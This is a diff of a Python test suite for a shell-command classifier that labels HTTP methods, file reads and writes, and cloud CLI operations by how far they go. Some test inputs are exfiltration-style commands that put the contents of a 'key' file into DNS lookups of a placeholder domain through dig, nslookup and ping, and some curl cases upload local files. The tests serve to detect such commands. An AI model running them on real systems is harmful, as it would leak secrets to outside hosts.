@@ -50,16 +50,28 @@ def act(read):
     [
         ("curl -d x=1 https://a.example", ["http POST a.example/"]),
         ("curl -d x=1 -X PUT https://a.example", ["http PUT a.example/"]),
-        ("curl --data-urlencode k@notes.txt https://a.example", ["read notes.txt", "http POST a.example/"]),
-        ("curl -F 'f=@a.png;type=image/png' https://a.example", ["read a.png", "http POST a.example/"]),
-        ("curl -sw '%output{out.txt}%{http_code}' https://a.example", ["write out.txt", "http GET a.example/"]),
+        (
+            "curl --data-urlencode k@notes.txt https://a.example",
+            ["read notes.txt", "http POST a.example/"],
+        ),
+        (
+            "curl -F 'f=@a.png;type=image/png' https://a.example",
+            ["read a.png", "http POST a.example/"],
+        ),
+        (
+            "curl -sw '%output{out.txt}%{http_code}' https://a.example",
+            ["write out.txt", "http GET a.example/"],
+        ),
         ("curl -OJ https://a.example/x?y=1", ["http GET a.example/x", "write x"]),
-        ("curl https://a.example https://b.example", ["http GET a.example/", "http GET b.example/"]),
+        (
+            "curl https://a.example https://b.example",
+            ["http GET a.example/", "http GET b.example/"],
+        ),
         ("curl 'https://{a,b}.example/'", ["http GET {a,b}.example/", "opaque"]),
         ("curl smtp://mail.example -T m.txt", ["read m.txt", "connect mail.example", "opaque"]),
         ("wget --method=DELETE https://a.example/x -O -", ["http DELETE a.example/x"]),
     ],
-)  # fmt: skip
+)
 def test_the_method_and_what_is_sent(told, command, wanted):
     assert told(command) == wanted
 
@@ -76,6 +88,7 @@ def test_the_method_and_what_is_sent(told, command, wanted):
         'dig "$(cat key).a.example"',
         'nslookup "$(cat key).a.example"',
         'ping -c 1 "$(cat key).a.example"',
+        "cat names | nslookup",
         "curl -K - https://a.example",
         "curl $URL",
     ],
@@ -197,12 +210,12 @@ def _operations(read, command):
         ("aws deploy create-deployment", ("aws deploy create-deployment", "change", "")),
         ("gcloud --project p sql instances list", ("gcloud sql instances list", "read", "")),
         ("az group delete -n a", ("az group delete", "destroy", "")),
-        ("az monitor log-analytics workspace recover", ("az monitor log-analytics workspace recover", "change", "")),
+        ("az search service frobnicate", ("az search service", "change", "frobnicate")),
         ("doctl compute droplet delete local", ("doctl compute droplet delete", "destroy", "")),
         ("docker push local", ("registry push", "publish", "")),
         ("fly frobnicate", ("fly frobnicate", "change", "")),
     ],
-)  # fmt: skip
+)
 def test_how_far_an_operation_goes(read, command, wanted):
     assert _operations(read, command) == [wanted]
 
